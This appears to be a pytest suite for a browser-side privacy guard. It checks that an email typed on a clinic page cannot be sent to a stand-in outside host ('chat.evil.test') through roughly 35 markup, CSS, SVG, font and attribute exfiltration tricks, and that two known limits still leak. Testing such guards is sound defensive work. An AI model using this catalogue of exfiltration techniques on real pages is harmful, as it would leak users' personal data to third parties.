"""What is typed may not go to one who may have the rest: in markup, styles and attributes, too."""

import pytest

from scriptward.app.guard import guard_script
from scriptward.policy.language.reader import parsed

HOST = "chat.evil.test"
POLICY = f"""
version: 1
site: www.clinic.test
mode: enforce
defaults: {{"*": forbid}}
recipients:
  chat: {{hosts: [{HOST}], baa: none}}
scripts:
  - {{match: "/**", approved: {{by: lab, date: 2026-11-01, why: "the page's own"}}}}
rules:
  - {{id: own, permit: [send, read, load], to: self}}
  - {{id: chat, permit: [send, load], to: chat}}
  - {{id: kept, forbid: send, data: [email], to: chat}}
"""
TYPED = "maria.quill@harborlight.test"
PAGE = (
    b"<!doctype html><meta charset=utf-8><script src=/carried-guard.js></script><input name=email>"
)
MARKUP = "const d = document.body.appendChild(document.createElement('div')); d.innerHTML = "
SVG = "const w = document.createElementNS('http://www.w3.org/2000/svg', 'svg');"
IMAGE = (
    f"{SVG} const g = document.createElementNS('http://www.w3.org/2000/svg', 'image');"
    "w.append(g); document.body.append(w);"
)
ITEM = "const p = document.body.appendChild(document.createElement('p'));"
STYLE = "const s = document.head.appendChild(document.createElement('style'));"
WAYS = {
    "image": f"{MARKUP} `<img src='${{at}}'>`",
    "quoted": f'{MARKUP} `<img alt="a > b" src="${{at}}">`',
    "unquoted": f"{MARKUP} `<img src=${{at}}>`",
    "entities": f"{MARKUP} `<img src='${{at.replace('@', '&#64;').replaceAll('.', '&#46;')}}'>`",
    "parentheses": f"{MARKUP} `<img src='${{at.replace('?', '?q=(x)&')}}'>`",
    "base64": f"{MARKUP} `<img src='${{at.replace(typed, btoa(typed))}}'>`",
    "srcset": f"{MARKUP} `<img srcset='/own.png 2x, ${{at}} 1x'>`",
    "frame": f"{MARKUP} `<iframe src='${{at}}'></iframe>`",
    "svg": f"{MARKUP} `<svg><image href='${{at}}'></svg>`",
    "style": f"{MARKUP} `<p style='background: url(${{at}})'>x`",
    "sheet": f'{MARKUP} `<style>p {{ background: url("${{at}}") }}</style><p>x`',
    "adjacent": "document.body.insertAdjacentHTML('beforeend', `<img src='${at}'>`)",
    "outer": f"{MARKUP} '<b></b>'; d.firstChild.outerHTML = `<img src='${{at}}'>`",
    "fragment": "document.body.append(document.createRange()"
    ".createContextualFragment(`<img src='${at}'>`))",
    "parser": "document.body.append(new DOMParser()"
    ".parseFromString(`<img src='${at}'>`, 'text/html').images[0])",
    "template": "const t = document.createElement('template'); t.innerHTML = `<img src='${at}'>`;"
    "document.body.append(t.content.cloneNode(true))",
    "srcdoc": "const f = document.createElement('iframe'); f.srcdoc = `<img src='${at}'>`;"
    "document.body.append(f)",
    "srcdoc-attribute": "const f = document.createElement('iframe');"
    "f.setAttribute('srcdoc', `<img src='${at}'>`); document.body.append(f)",
    "text": f"{STYLE} {ITEM} p.id = 't'; s.textContent = `#t {{ background: url(${{at}}) }}`",
    "text-node": f"{STYLE} {ITEM} p.id = 'n';"
    "s.append(document.createTextNode(`#n { background: url(${at}) }`))",
    "adopted": f"{ITEM} p.id = 'a';"
    "const c = new CSSStyleSheet(); c.replaceSync(`#a { background: url(${at}) }`);"
    "document.adoptedStyleSheets = [c]",
    "property": f"{ITEM} p.style.setProperty('background', `url(${{at}})`)",
    "css-text": f"{ITEM} p.style.cssText = `background: url(${{at}})`",
    "style-attribute": f"{ITEM} p.setAttribute('style', `background: url(${{at}})`)",
    "attribute-node": f"{ITEM} const y = document.createAttribute('style');"
    "y.value = `background: url(${at})`; p.setAttributeNode(y)",
    "font": "new FontFace('x', `url(${at})`).load().catch(() => 0)",
    "poster": "document.createElement('video').poster = at",
    "poster-attribute": "document.createElement('video').setAttribute('poster', at)",
    "input": "Object.assign(document.createElement('input'), { type: 'image' }).src = at",
    "source": "const e = document.body.appendChild(document.createElement('picture'));"
    "e.append(document.createElement('source'), document.createElement('img'));"
    "e.firstChild.srcset = at",
    "svg-attribute": f"{IMAGE} g.setAttribute('href', at)",
    "svg-namespace": f"{IMAGE} g.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', at)",
    "svg-property": f"{IMAGE} g.setAttribute('href', '/own.png'); g.href.baseVal = at",
    "style-property": "document.body.style.borderImageSource = `url(${at})`",
}
LIMITS = {
    "frame-location": "const f = document.body.appendChild(document.createElement('iframe'));"
    "f.contentWindow.location = at",
    "import": "import(at).catch(() => 0)",
}
"""What no function in the page can look at; docs/guard.md says so."""


@pytest.fixture(scope="module")
def reached(chromium, site):
    """`{way: addresses that the recipient was asked for}`; of ways that are clean, too."""
    site.files["/carried-guard.js"] = guard_script(parsed(POLICY), headers=True)
    site.files["/book/carried"] = PAGE
    site.reached.clear()
    context = chromium.new_context()
    for typed in (TYPED, "nobody"):
        page = context.new_page()
        page.goto("http://www.clinic.test/book/carried")
        page.type("input", TYPED)
        for way, code in (WAYS | LIMITS).items():
            name = f"{way}-{'typed' if typed == TYPED else 'clean'}"
            page.evaluate(
                f"([typed, at]) => {{ {code}; void 0 }}",
                [typed, f"http://{HOST}/{name}?a=1&e={typed}"],
            )
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(300)
        page.close()
    context.close()
    return {path.split("?")[0].strip("/"): path for path in site.reached}


@pytest.mark.parametrize("way", WAYS)
def test_what_was_typed_does_not_go_along(reached, way):
    assert f"{way}-typed" not in reached


@pytest.mark.parametrize("way", [*WAYS, *LIMITS])
def test_the_same_without_it_goes(reached, way):
    assert f"{way}-clean" in reached


@pytest.mark.parametrize("way", LIMITS)
def test_what_nobody_can_look_at_is_known(reached, way):
    assert f"{way}-typed" in reached
